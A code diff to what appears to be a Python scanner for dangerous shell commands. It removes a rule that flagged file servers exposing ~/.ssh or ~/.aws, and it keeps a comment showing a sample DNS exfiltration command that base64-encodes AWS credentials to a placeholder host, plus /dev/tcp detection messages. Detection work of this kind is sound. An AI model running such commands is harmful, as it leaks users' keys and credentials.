@@ -244,26 +244,6 @@ def rule_tcp_redirect(seg) -> Optional[tuple]:
             f"sends {'keys or credentials' if found == 'high' else 'secrets'} to another machine over /dev/tcp")
 
 
-def rule_serves_secrets(c: Ctx) -> Optional[tuple]:
-    """``python3 -m http.server --directory ~/.ssh``, ``miniserve ~/.aws``: a file server handing keys to
-    anyone who asks."""
-    texts = c.texts
-    if c.prog.startswith("python") and not ("-m" in texts and "http.server" in texts):
-        return None
-    if c.prog == "php" and "-S" not in texts:
-        return None
-    served = [texts[k + 1] for k, t in enumerate(texts[:-1]) if t in ("--directory", "-d", "-t", "--root", "-h")]
-    if c.prog not in ("php",) and not c.prog.startswith("python"):
-        served += [t for t in texts if not t.startswith("-")]
-    for path in served:
-        found = secret_path(Word(path, path, has_var="$" in path))
-        if found == "high" or found and target(Word(path, path)).kind == "dot-critical":
-            return HIGH, f"{c.prog} serves {path} to the network: keys or credentials for anyone who asks ({c.text})"
-    return None
-
-
 # Programs that only look a name up: the name itself carries data (`dig $(base64 -w0 ~/.aws/credentials).x.example`).
 _LOOKUPS = {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "traceroute", "tracepath"}
 RULES: dict = {p: [rule_exfiltration] for p in _SENDERS | _LOOKUPS}
-for _p in ("python", "python3", "php", "miniserve", "http-server", "updog", "woof", "darkhttpd", "serve"):
-    RULES.setdefault(_p, []).append(rule_serves_secrets)
